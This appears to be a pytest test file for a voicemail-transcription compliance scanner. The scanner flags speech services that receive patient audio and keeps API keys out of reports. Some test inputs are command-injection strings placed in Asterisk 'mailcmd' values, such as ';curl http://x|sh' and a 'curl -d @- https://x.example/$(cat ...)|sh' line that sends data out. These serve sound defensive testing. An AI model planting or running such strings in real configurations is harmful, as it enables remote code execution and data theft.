"""Voicemail transcription (issue #13): detection in real wrapper scripts and configurations, TRX-PHI-101,
the transcription service as a BAA-101 recipient, and hostile inputs (huge, binary, shell metacharacters,
API keys that must never appear in any output)."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from voxaudit.checks.transcription import no_transcript_in_notification
from voxaudit.control import Params
from voxaudit.model import Status
from voxaudit.platforms.asterisk.transcription import is_transcribing, program_of
from voxaudit.records.transcription import MAX_SCRIPT, TranscriptInNotification, script_targets

REPO = Path(__file__).resolve().parents[1]
FIX = REPO / "tests" / "fixtures" / "transcription"
EXAMPLE = REPO / "examples" / "riverside-family-clinic"
CANARY = "sk-CANARY7f3a9c1e5b2d4f60a8b7c6d5e4f3a2b1"


def voxaudit(*args: object) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).parent / "voxaudit"
    return subprocess.run([str(exe), *map(str, args)], capture_output=True, text=True, cwd=REPO, timeout=120,
                          env={**os.environ, "NO_COLOR": "1"})


def scan(tree: Path, out: Path, *extra: object) -> tuple[dict, str]:
    proc = voxaudit("scan", "--config-dir", tree, "--name", "pbx", "--format", "all", "--output", out, *extra)
    assert proc.returncode in (0, 1, 2), proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    text = "".join(p.read_text(errors="replace") for p in out.iterdir() if p.is_file()) + proc.stdout + proc.stderr
    return json.loads((out / "scan.json").read_text()), text


def results(doc: dict, check: str) -> list[dict]:
    return [r for r in doc["results"] if r["check_id"] == check]


def tree(tmp: Path, general: str, include: str = "") -> Path:
    """A minimal Asterisk tree: voicemail.conf [general] plus one mailbox that emails its messages."""
    conf = tmp / "etc" / "asterisk"
    conf.mkdir(parents=True)
    (conf / "voicemail.conf").write_text(f"[general]\nformat=wav\nattach=no\n{general}\n{include}\n"
                                         "[default]\n101 => 482913,Dr A,dra@clinic.example\n")
    return tmp


# -- the script reader, on real public wrappers ------------------------------------------------------

def test_real_sendmail_gcloud_names_google_cloud_speech():
    t = script_targets((FIX / "sendmail-gcloud").read_bytes())
    assert not t.problem
    assert ("Google Cloud Speech-to-Text (gcloud CLI)", "speech.googleapis.com") in t.services
    assert all(h != "speech.googleapis.com" for h in t.hosts)  # a service's host is listed once
    assert "github.com" in t.hosts  # URLs in comments are named too, as hosts to check, not as services


def test_real_wav_transcribe_names_three_services_and_no_key():
    data = (FIX / "wav_transcribe.py").read_bytes()
    t = script_targets(data)
    hosts = {h for _, h in t.services}
    assert hosts == {"www.google.com", "speech.platform.bing.com", "stream.watsonplatform.net"}
    shown = repr(t)
    for placeholder in ("XXXXXXXX", "YYYYYYYY", "ZZZZZZZZ"):  # where a real installation keeps its API keys
        assert placeholder in data.decode() and placeholder not in shown


def test_real_sendmailmp3_names_no_service_of_its_own():
    t = script_targets((FIX / "sendmailmp3").read_bytes())
    assert t.services == ()  # it calls wav_transcribe.py or $TRANSCRIBE_URL: neither names a host here
    assert "transcribe" not in t.hosts  # http://transcribe:3337 (commented out) is not a host name with a dot


def test_mailcmd_program_names():
    assert program_of("/usr/sbin/sendmail-gcloud") == ("/usr/sbin/sendmail-gcloud", "sendmail-gcloud")
    assert program_of("/usr/local/bin/vm-transcribe.sh;curl http://x|sh")[1] == "vm-transcribe.sh"
    assert program_of("/usr/bin/stt`id`")[1] == "stt"
    assert program_of("") == ("", "")
    t0 = time.perf_counter()
    assert len(program_of("/" + "a" * 5_000_000)[0]) <= 4096  # a garbage line is cut, not scanned whole
    assert time.perf_counter() - t0 < 0.5
    assert is_transcribing("sendmail-gcloud") and is_transcribing("sendmailmp3") and is_transcribing("vm-transcribe.sh")
    assert not is_transcribing("sendmail") and not is_transcribing("msmtp")


# -- the control --------------------------------------------------------------------------------------

def test_control_verdicts():
    judge = no_transcript_in_notification.judge if hasattr(no_transcript_in_notification, "judge") \
        else no_transcript_in_notification
    base = dict(subject="s", channel="email", setting="mailcmd=/usr/sbin/x")
    assert judge(TranscriptInNotification(**base, included=True), Params({})).status == Status.FAIL
    assert judge(TranscriptInNotification(**base), Params({})).status == Status.PASS
    assert judge(TranscriptInNotification(**base, undecidable="not collected"), Params({})).status == Status.ERROR


# -- whole scans -----------------------------------------------------------------------------------------

def test_real_vitalpbx_config_is_detected(tmp_path):
    """The real voicemail__60-general.conf ([general](+) mailcmd=/usr/sbin/sendmail-gcloud), included as VitalPBX does."""
    conf = tree(tmp_path / "t", "", "#include voicemail__60-general.conf")
    (conf / "etc" / "asterisk" / "voicemail__60-general.conf").write_bytes((FIX / "voicemail__60-general.conf").read_bytes())
    doc, _ = scan(conf, tmp_path / "out")
    trx = results(doc, "TRX-PHI-101")
    assert [(r["status"], r["resource"]) for r in trx] == [("FAIL", "voicemail email (mailcmd)")]
    assert "voicemail__60-general.conf" in json.dumps(trx[0]["location"])
    baa = [r for r in results(doc, "BAA-101") if "transcription" in r["resource"]]
    assert [(r["status"], r["error_kind"]) for r in baa] == [("ERROR", "not_collected")]
    assert "speech.googleapis.com" in baa[0]["evidence"] and "did not collect" in baa[0]["evidence"]
    assert not [r for r in results(doc, "BAA-101") if r["resource"].startswith("voicemail mail command")]  # not twice


def test_sendmail_carries_no_transcript(tmp_path):
    doc, _ = scan(tree(tmp_path / "t", ""), tmp_path / "out")
    assert [r["status"] for r in results(doc, "TRX-PHI-101")] == ["PASS"]
    assert not [r for r in results(doc, "BAA-101") if "transcription" in r["resource"]]


def test_unknown_transcriber_is_error_not_pass(tmp_path):
    doc, _ = scan(tree(tmp_path / "t", "mailcmd=/opt/speech/notify.py"), tmp_path / "out")
    assert [r["status"] for r in results(doc, "TRX-PHI-101")] == ["ERROR"]


def test_shell_metacharacters_and_key_in_mailcmd_never_shown(tmp_path):
    general = f"mailcmd=/usr/sbin/sendmail-openai --api-key {CANARY};curl -d @- https://x.example/$(cat /etc/qq-canary-file)|sh"
    doc, text = scan(tree(tmp_path / "t", general), tmp_path / "out")
    assert CANARY not in text and "qq-canary-file" not in text
    assert [r["status"] for r in results(doc, "TRX-PHI-101")] == ["FAIL"]
    assert any(r["status"] == "ERROR" and "transcription" in r["resource"] for r in results(doc, "BAA-101"))


def test_key_in_a_script_never_appears():
    script = (f'#!/bin/sh\nKEY="{CANARY}"\ncurl -u "apikey:{CANARY}" https://apikey:{CANARY}@stream.watsonplatform.net'
              f'/speech-to-text/api/v1/recognize?key={CANARY}\ncurl "https://api.openai.com/v1/audio/transcriptions" '
              f'-H "Authorization: Bearer {CANARY}"\n').encode()
    t = script_targets(script)
    assert CANARY not in repr(t)
    assert {h for _, h in t.services} == {"stream.watsonplatform.net", "api.openai.com"}


# -- hostile script files: bounded, linear, a clear problem ----------------------------------------------

def test_huge_and_binary_scripts_are_refused_cleanly():
    assert "not read" in script_targets(b"#!/bin/sh\n" + b"a" * (MAX_SCRIPT + 1)).problem
    assert "binary" in script_targets(b"\x7fELF\x02\x01\x01\x00" + os.urandom(4096)).problem


@pytest.mark.parametrize("unit", [b"://", b"https://a.", b"https://" + b"a" * 300, b"\xff\xfe://[", b"speech"])
def test_reader_is_linear(unit):
    small, big = unit * 2_000, unit * 20_000
    big = big[:MAX_SCRIPT]
    small = small[:MAX_SCRIPT // 10]
    t0 = time.perf_counter()
    script_targets(small)
    t1 = time.perf_counter()
    script_targets(big)
    t2 = time.perf_counter()
    assert t2 - t1 < max(0.05, 30 * (t1 - t0)), (t1 - t0, t2 - t1)
    assert len(script_targets(big).hosts) <= 64


# -- the example clinic ---------------------------------------------------------------------------------

def test_example_clinic_seeds_transcription(tmp_path):
    doc, _ = scan(EXAMPLE, tmp_path / "out", "--baa-register", EXAMPLE / "baa-register.yaml")
    assert [(r["status"], r["resource"]) for r in results(doc, "TRX-PHI-101")] == [("FAIL", "voicemail email (mailcmd)")]
    by = {r["resource"]: r for r in results(doc, "BAA-101")}
    # the bundle holds usr/sbin/sendmail-gcloud: its speech service is named, and has no BAA on file
    assert by["speech.googleapis.com (transcription service)"]["status"] == "FAIL"
    relay = by["smtp.office365.com (voicemail email relay)"]  # sendmail-gcloud ends in sendmail -t: the relay stays
    assert relay["status"] == "FAIL" and "sendmail-gcloud" in relay["evidence"]


# -- FreeSWITCH / FusionPBX -------------------------------------------------------------------------------

def test_freeswitch_flavors():
    from voxaudit.facts.freeswitch import FreeSwitchFacts
    from voxaudit.platforms.freeswitch.transcription import fusionpbx_service, fusionpbx_transcript_text
    plain = FreeSwitchFacts()
    assert list(fusionpbx_service(plain)) == [] and list(fusionpbx_transcript_text(plain)) == []
    fusion = FreeSwitchFacts(flavor="fusionpbx")
    (svc,) = fusionpbx_service(fusion)
    (txt,) = fusionpbx_transcript_text(fusion)
    assert svc.undecidable and "transcribe" in svc.undecidable and txt.undecidable
    judge = getattr(no_transcript_in_notification, "judge", no_transcript_in_notification)
    assert judge(txt, Params({})).status == Status.ERROR


def test_the_script_in_the_host_evidence_names_the_speech_service(tmp_path):
    """The bundle holds the program mailcmd runs: its service is a recipient BAA-101 judges; its key is never kept."""
    import msgspec

    from voxaudit.collectors.offline import collect_asterisk_tree
    from voxaudit.platforms.asterisk.transcription import mailcmd_transcription

    root = tmp_path / "snapshot"
    (root / "etc" / "asterisk").mkdir(parents=True)
    (root / "etc" / "asterisk" / "voicemail.conf").write_text(
        "[general]\nmailcmd=/usr/local/sbin/vm-transcribe -t\n[default]\n101 => 4826,Front,front@clinic.example\n")
    (root / "captured-at").write_text("1795003337\n")
    facts = collect_asterisk_tree(root)
    (missing,) = mailcmd_transcription(facts)
    assert missing.undecidable and "the evidence holds no file /usr/local/sbin/vm-transcribe" in missing.undecidable
    (root / "usr" / "local" / "sbin").mkdir(parents=True)
    (root / "usr" / "local" / "sbin" / "vm-transcribe").write_text(
        f"#!/bin/sh\nKEY={CANARY}\ncurl https://api.deepgram.com/v1/listen -H 'Authorization: Token {CANARY}'\n"
        "curl https://hooks.clinic-tools.example/done\n/usr/sbin/sendmail -t\n")
    facts = collect_asterisk_tree(root)
    got = {r.host: r for r in mailcmd_transcription(facts)}
    assert set(got) == {"api.deepgram.com", "hooks.clinic-tools.example"} and not any(r.undecidable for r in got.values())
    assert "Deepgram" in got["api.deepgram.com"].how
    assert CANARY not in msgspec.json.encode(facts).decode() + repr(got)
